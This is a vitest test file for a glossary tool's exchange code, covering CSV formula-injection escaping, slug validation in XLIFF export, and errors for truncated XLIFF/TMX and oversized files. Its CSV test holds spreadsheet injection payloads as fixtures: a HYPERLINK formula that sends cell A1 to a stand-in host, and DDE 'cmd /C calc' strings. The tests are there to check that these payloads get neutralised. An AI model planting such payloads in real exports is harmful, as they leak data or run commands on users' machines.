// Exchange hardening (issue 10): CSV exports cannot smuggle spreadsheet
// formulas, and one bundle with a bad slug no longer aborts an XLIFF export.
import {afterEach, describe, expect, it} from 'vitest'
import {serializeBundle} from '../src/workflow/store.ts'
import {exportCsv, parseCsv} from '../src/exchange/index.ts'
import {xliffExportProject} from '../src/exchange/run.ts'
import type {Concept} from '../src/glossary/types.ts'
import {fixtureBundle} from './fixtures/exchange/helpers.ts'
import {tempProject, type TempProject} from './helpers/project.ts'

let temp: TempProject | undefined
afterEach(async () => {
  await temp?.cleanup()
  temp = undefined
})

describe('CSV glossary export (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://x.test/?"&A1,"clic")', '@SUM(1+1)*cmd|x', '+cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1']
  const concept: Concept = {
    id: 'trap',
    note: '=1+1',
    terms: {fr: hostile.map((text, index) => ({text: `${text} ${index}`.trim(), status: 'admitted' as const}))}
  }

  it('writes no cell that a spreadsheet would run as a formula', () => {
    const csv = exportCsv({concepts: [concept]})
    const cells = csv.split('\n').slice(1).filter(Boolean).flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')))
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(csv).toContain("'=HYPERLINK(")
  })

  it('reads its own export back to the same terms', () => {
    const parsed = parseCsv(exportCsv({concepts: [concept]}), 'terms.csv')
    expect(parsed.concepts[0]?.terms.fr?.map((term) => term.text)).toEqual(concept.terms.fr?.map((term) => term.text))
    expect(parsed.concepts[0]?.note).toBe('=1+1')
  })
})

describe('one slug rule', () => {
  it('leaves a bundle whose slug breaks the rule out of an XLIFF export, and exports the others', async () => {
    const good = await fixtureBundle()
    const bad = {...good, article: 'Mon article.v2'}
    temp = await tempProject({
      [`locales/en/${good.article}.json`]: serializeBundle(good),
      [`locales/en/${bad.article}.json`]: serializeBundle(bad)
    })
    const result = await xliffExportProject(temp.project, {locale: 'en'})
    expect(result.articles).toEqual([good.article])
    expect(result.failures.map((failure) => failure.code)).toEqual(['E_SLUG'])
  })
})

describe('truncated exchange files', () => {
  const cut = (text: string) => text.slice(0, Math.floor(text.length * 0.6))
  const lastLine = (text: string) => text.split('\n').length

  it('reports a cut-short XLIFF at its real end and names the open element', async () => {
    const {exportXliff, parseXliff} = await import('../src/exchange/index.ts')
    const text = cut(exportXliff([await fixtureBundle()], {sourceLocale: 'fr', targetLocale: 'en'}))
    let error: unknown
    try {
      parseXliff(text, 'cut.xlf')
    } catch (caught) {
      error = caught
    }
    expect(error).toMatchObject({code: 'E_XLIFF', file: 'cut.xlf'})
    const message = (error as Error).message
    expect(message).toContain(`line ${lastLine(text)}`)
    expect(message).toMatch(/cut short/)
    expect(message).not.toMatch(/\[\s*"/)
  })

  it('reports a cut-short TMX at its real end', async () => {
    const {parseTmx} = await import('../src/tm/tmx.ts')
    const tmx = '<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4">\n  <header srclang="fr" datatype="plaintext" segtype="sentence" adminlang="en" o-tmf="x" creationtool="x" creationtoolversion="1"/>\n  <body>\n    <tu>\n      <tuv xml:lang="fr"><seg>Bonjour</seg></tuv>\n'
    expect(() => parseTmx(tmx, 'cut.tmx')).toThrow(/line 7, column 1 .*<tu>.*cut short/)
  })

  it('gives a hint that fits an oversized XLIFF (not "split the article")', async () => {
    temp = await tempProject({'big.xlf': `<xliff>${'x'.repeat(2048)}</xliff>`})
    const {xliffImportProject} = await import('../src/exchange/run.ts')
    const error = await xliffImportProject(temp.project, `${temp.root}/big.xlf`, {maxBytes: 1024}).catch((caught: unknown) => caught)
    expect(error).toMatchObject({code: 'E_TOO_LARGE'})
    expect((error as {hint: string}).hint).toMatch(/fewer articles per file/)
  })
})
